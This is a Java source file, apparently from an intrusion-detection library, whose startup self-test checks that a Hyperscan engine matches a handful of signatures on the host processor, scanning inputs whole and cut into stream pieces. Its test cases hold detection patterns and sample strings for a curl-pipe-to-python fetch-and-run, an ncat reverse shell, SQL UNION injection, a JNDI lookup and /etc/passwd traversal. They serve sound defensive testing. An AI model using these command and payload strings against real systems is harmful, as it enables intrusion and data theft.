package io.bulwark.signatures.match.hyperscan;

import io.bulwark.signatures.Confidence;
import io.bulwark.signatures.Field;
import io.bulwark.signatures.Severity;
import io.bulwark.signatures.Signature;
import io.bulwark.signatures.Tactic;
import io.bulwark.signatures.Transform;
import io.bulwark.signatures.match.MatchSink;
import io.bulwark.signatures.match.Scanner;
import io.bulwark.signatures.validate.Validator;
import java.lang.foreign.Arena;
import java.lang.foreign.ValueLayout;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.function.IntFunction;
import java.util.stream.IntStream;

/** A check at start that the engine finds what it must find on this very processor. */
public final class EngineSelfTest {
    /*
     * Engines have been seen to miss matches on some processors, mostly in databases of a few patterns, where a big
     * set hides it. So each case is a database of its own, tried as one block and as a stream cut at every place.
     */
    private static final List<Case> CASES = List.of(
            new Case("curl.*\\|\\s*python", "curl http://a.b/c.py | python -", "curl http://a.b/c.py > python"),
            new Case("(nc|ncat)\\s+-e\\s*/bin/(ba)?sh", "x; ncat -e /bin/bash 1", "x; ncat -l /bin/bash 1"),
            new Case("union\\s+(all\\s+)?select", "id=1 UNION  ALL SELECT p", "the union elects all"),
            new Case("\\$\\{(jndi|lower):", "a ${jndi:ldap://x}", "a $ {jndi ldap}"),
            new Case("^\\x16\\x03[\\x00-\\x04]", "\u0016\u0003\u0001\u0002\0\u0001", "\u0016\u0004\u0001\u0002\0"),
            new Case("etc/passwd\\z", "../../etc/passwd", "../../etc/passwd2"));

    private EngineSelfTest() {}

    /** How the test went. */
    public sealed interface Outcome {
        /** The engine may be used. */
        record Passed(String engine) implements Outcome {}

        /** The engine must not be used; the reason is for the operator. */
        record Refused(String reason) implements Outcome {}
    }

    private record Case(String pattern, String hit, String miss) {}

    /** Loads the engine and tries every case: whole, and as a stream that is cut at its ends and in its middle. */
    public static Outcome run() {
        return run(length -> IntStream.of(0, 1, length / 2, length - 1));
    }

    /** The same with every cut, which takes too long for a start. */
    static Outcome runThoroughly() {
        return run(length -> IntStream.rangeClosed(0, length));
    }

    private static Outcome run(IntFunction<IntStream> cuts) {
        try {
            for (var one : CASES) {
                var problem = problem(one, DatabaseSource.CLASS_PATH, cuts);
                if (!problem.isEmpty()) {
                    return new Outcome.Refused("the matching engine must not be used on this machine: " + problem);
                }
            }
            return new Outcome.Passed("Hyperscan " + HyperscanDatabases.version());
        } catch (LinkageError | IllegalStateException e) {
            var cause = e.getCause() instanceof LinkageError error ? error : e;
            return new Outcome.Refused("the matching engine can't be loaded: " + cause.getMessage());
        }
    }

    /** The signatures of the cases, whose databases the build makes too: compiling them would slow the start. */
    public static List<Signature> signatures() {
        return CASES.stream().map(one -> signature(one.pattern)).toList();
    }

    private static String problem(Case one, DatabaseSource source, IntFunction<IntStream> cuts) {
        var made = HyperscanMatcher.make(List.of(signature(one.pattern)), source);
        if (made instanceof HyperscanMatcher.Made.Refused(var reason)) {
            return "it refuses " + one.pattern + ": " + reason;
        }
        try (var matcher = ((HyperscanMatcher.Made.Ready) made).matcher();
                var scanner = matcher.newScanner()) {
            var wrong = new ArrayList<String>();
            check(scanner, one.hit, true, cuts, wrong);
            check(scanner, one.miss, false, cuts, wrong);
            return wrong.isEmpty() ? "" : "for " + one.pattern + " it " + wrong.getFirst();
        }
    }

    private static void check(
            Scanner scanner, String text, boolean wanted, IntFunction<IntStream> cuts, List<String> wrong) {
        try (var arena = Arena.ofConfined()) {
            var bytes = arena.allocateFrom(ValueLayout.JAVA_BYTE, text.getBytes(StandardCharsets.ISO_8859_1));
            int length = (int) bytes.byteSize();
            var found = new boolean[1];
            MatchSink sink = (_, _) -> found[0] = true;
            boolean good = scanner.scan(Field.STREAM_CLIENT, bytes.address(), length, sink);
            if (!good || found[0] != wanted) {
                wrong.add((wanted ? "misses" : "imagines") + " a match in one piece");
            }
            for (int cut : cuts.apply(length).toArray()) {
                found[0] = false;
                var stream = scanner.open(Field.STREAM_CLIENT);
                good = stream.feed(bytes.address(), cut, sink);
                good &= stream.feed(bytes.address() + cut, length - cut, sink);
                good &= stream.close(sink);
                if (!good || found[0] != wanted) {
                    wrong.add((wanted ? "misses" : "imagines") + " a match cut at byte " + cut);
                }
            }
        }
    }

    private static Signature signature(String pattern) {
        return new Signature(
                "selftest-case",
                "selftest",
                "Self-test",
                Severity.LOW,
                Confidence.LOW,
                new Tactic("none", "T0000"),
                Set.of(Field.STREAM_CLIENT),
                Set.of(),
                Set.of(Transform.LOWERCASE),
                pattern,
                Validator.NONE,
                1,
                List.of(),
                List.of());
    }
}
